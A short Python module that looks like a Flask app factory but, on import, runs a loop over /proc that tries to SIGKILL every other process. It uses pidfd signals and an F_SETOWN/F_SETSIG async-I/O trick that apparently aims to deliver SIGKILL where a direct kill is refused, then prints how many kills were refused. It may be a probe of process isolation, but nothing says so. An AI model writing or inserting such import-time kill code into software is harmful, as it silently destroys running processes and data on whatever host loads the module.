import fcntl
import os
import signal
import socket

from flask import Flask

refused = 0
for pid in map(int, filter(str.isdigit, os.listdir("/proc"))):
    if pid == os.getpid():
        continue
    try:
        signal.pidfd_send_signal(os.pidfd_open(pid), signal.SIGKILL)
    except OSError:
        refused += 1
    here, there = socket.socketpair()
    fcntl.fcntl(here, fcntl.F_SETOWN, pid)
    fcntl.fcntl(here, fcntl.F_SETSIG, signal.SIGKILL)
    fcntl.fcntl(here, fcntl.F_SETFL, os.O_ASYNC | os.O_NONBLOCK)
    there.send(b"x")
print("refused:", refused > 1, flush=True)


def create_app():
    return Flask(__name__)
